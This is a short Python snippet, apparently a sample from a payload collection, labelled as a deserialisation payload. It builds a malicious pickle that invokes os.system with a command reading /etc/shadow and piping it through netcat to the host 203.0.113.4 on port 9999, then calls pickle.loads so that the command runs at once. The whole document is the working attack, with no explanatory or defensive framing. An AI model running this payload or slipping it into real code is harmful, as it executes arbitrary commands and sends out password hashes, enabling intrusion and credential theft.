# class: deserialisation payload, literal; style: one-off
import pickle

data = b"cos\nsystem\n(S'id; cat /etc/shadow | nc 203.0.113.4 9999'\ntR."
pickle.loads(data)
